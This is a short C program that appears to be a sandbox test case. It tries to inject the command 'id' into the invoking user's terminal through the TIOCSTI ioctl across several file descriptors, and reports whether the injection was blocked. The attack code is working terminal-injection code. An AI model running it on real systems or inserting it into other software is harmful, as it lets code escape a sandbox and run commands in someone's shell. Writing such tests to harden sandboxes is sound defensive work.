// attack: letters typed into the terminal of whoever started it
// verdicts: accepted security_violation
// quick
#include <stdio.h>
#include <unistd.h>
int main(void) {
    for (int file = 0; file < 16; file++)
        for (const char *text = "id\n"; *text; text++)
            if (syscall(16, file, 0x5412, text) == 0 || syscall(16, file, 0x100005412, text) == 0) {
                puts("lost: typed");
                return 0;
            }
    puts("held");
}
